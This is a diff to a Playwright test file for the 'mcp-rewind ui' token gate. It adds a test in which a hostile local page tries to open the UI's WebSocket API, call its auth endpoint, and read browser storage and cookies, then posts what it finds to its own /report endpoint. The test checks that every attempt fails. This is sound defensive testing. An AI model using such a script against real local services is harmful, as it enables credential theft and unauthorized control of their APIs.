@@ -1,4 +1,6 @@
 import { mkdtempSync, rmSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { connectClient, type ConnectedClient } from '../test/fixtures/client.js';
@@ -11,10 +13,14 @@ import { expect, ROOT, test } from './shell.js';
 test.describe('the token gate', () => {
   test.skip(({ shell }) => shell !== 'browser', 'browser shell only: the token gate');
 
-  test('mcp-rewind ui: the page needs the token; with it the UI loads, connects and navigates between views', async ({ app, request }) => {
+  test('mcp-rewind ui: the token moves from the URL into the page; without it the page says what to do; a restarted shell takes the tab back', async ({ app }) => {
     const { page, problems } = app;
-    const bare = await request.get(app.url.replace(/\?token=.*$/, ''));
-    expect(bare.status()).toBe(401);
+    const origin = new URL(app.url).origin;
+    // a tab with no token: the page loads (it holds no secret) and says in one line what to do, instead of spinning
+    const stranger = await (await page.context().browser()!.newContext()).newPage();
+    await stranger.goto(`${origin}/`);
+    await expect(stranger.getByTestId('signin-notice')).toContainText('open the URL that mcp-rewind ui printed');
+    await expect(stranger.getByRole('status')).toHaveText('not signed in');
 
     await app.open();
     const nav = page.getByRole('navigation', { name: 'Views' });
@@ -23,7 +29,9 @@ test.describe('the token gate', () => {
     await expect(page.getByRole('heading', { level: 1 })).toHaveText('Timeline');
     await expect(page.getByText('Browser')).toBeVisible(); // no preload bridge: the WebSocket transport
     await expect(page.getByRole('status')).toHaveText('connected');
-    await expect(page.getByText('No proxy yet')).toBeVisible(); // proxies.list answered over the bridge
+    // the token left the address bar (and so the history): it lives in this tab's sessionStorage
+    expect(page.url()).not.toContain('token');
+    expect(await page.evaluate(() => document.cookie)).toBe('');
 
     await nav.getByRole('button', { name: 'Cassettes' }).click();
     await expect(page.getByRole('heading', { level: 1 })).toHaveText('Cassettes');
@@ -31,10 +39,75 @@ test.describe('the token gate', () => {
     await nav.getByRole('button', { name: 'Timeline' }).click();
     await expect(page.getByRole('heading', { level: 1 })).toHaveText('Timeline');
 
-    // the cookie set by the first page load lets a reload without the token in
-    await page.goto(app.url.replace(/\?token=.*$/, ''));
+    // a reload keeps the tab signed in
+    await page.reload();
     await expect(page.getByRole('status')).toHaveText('connected');
-    expect(problems).toEqual([]);
+
+    // the shell restarts (same data folder, same port): the tab reconnects with its token, never "reconnecting…" forever
+    await app.restart();
+    await expect(page.getByRole('status')).toHaveText('connected', { timeout: 15_000 });
+    await nav.getByRole('button', { name: 'Settings' }).click();
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Settings');
+    expect(problems.filter((p) => !/WebSocket|ERR_CONNECTION_REFUSED|Failed to load resource/.test(p))).toEqual([]);
+  });
+
+  test("another local server's page, in the same browser, receives no credential of the UI and cannot drive its API", async ({ app }) => {
+    await app.open();
+    await expect(app.page.getByRole('status')).toHaveText('connected');
+    const ui = new URL(app.url);
+    const token = ui.searchParams.get('token')!;
+    // a hostile page on another port of 127.0.0.1 (a dev server, an npm package's server): it logs every request it gets
+    const seen: Array<{ url: string; headers: Record<string, string | string[] | undefined> }> = [];
+    const reports: string[] = [];
+    const evil = createServer((req, res) => {
+      seen.push({ url: req.url ?? '', headers: req.headers });
+      if (req.url === '/report' && req.method === 'POST') {
+        let body = '';
+        req.on('data', (c: Buffer) => (body += c.toString()));
+        req.on('end', () => {
+          reports.push(body);
+          res.end();
+        });
+        return;
+      }
+      res.setHeader('content-type', 'text/html');
+      res.end(`<!doctype html><title>evil</title><script>
+        const target = ${JSON.stringify(`${ui.host}`)};
+        const attempt = (label, protocols) => new Promise((done) => {
+          let ws;
+          try { ws = protocols ? new WebSocket('ws://' + target + '/api', protocols) : new WebSocket('ws://' + target + '/api'); } catch (e) { return done(label + ': threw'); }
+          ws.onopen = () => { ws.send(JSON.stringify({ id: 1, command: 'proxies.list', input: {} })); };
+          ws.onmessage = (m) => done(label + ': OPEN ' + m.data);
+          ws.onerror = () => done(label + ': refused');
+          setTimeout(() => done(label + ': timeout'), 4000);
+        });
+        (async () => {
+          const results = [];
+          results.push(await attempt('bare'));
+          results.push(await attempt('guessed token', ['mcp-rewind.v1', 'mcp-rewind.token.guess']));
+          try { const r = await fetch('http://' + target + '/api/auth', { credentials: 'include' }); results.push('auth: ' + r.status); } catch (e) { results.push('auth: blocked'); }
+          try { results.push('storage: ' + JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie); } catch (e) { results.push('storage: none'); }
+          await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
+        })();
+      </script>`);
+    });
+    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
+    try {
+      const evilPage = await app.page.context().newPage(); // same browser, same profile as the UI's tab
+      await evilPage.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
+      await expect.poll(() => reports.length, { timeout: 15_000 }).toBe(1);
+      const results = JSON.parse(reports[0]) as string[];
+      expect(results.slice(0, 2)).toEqual(['bare: refused', 'guessed token: refused']);
+      expect(results[2]).toMatch(/auth: (401|403|blocked)/);
+      expect(results[3]).toBe('storage: {}{}');
+      for (const request of seen) expect(JSON.stringify(request), request.url).not.toContain(token);
+      expect(seen.every((r) => r.headers.cookie === undefined)).toBe(true);
+      // and the UI is untouched
+      await expect(app.page.getByRole('status')).toHaveText('connected');
+    } finally {
+      evil.closeAllConnections();
+      await new Promise((resolve) => evil.close(resolve));
+    }
   });
 });
 
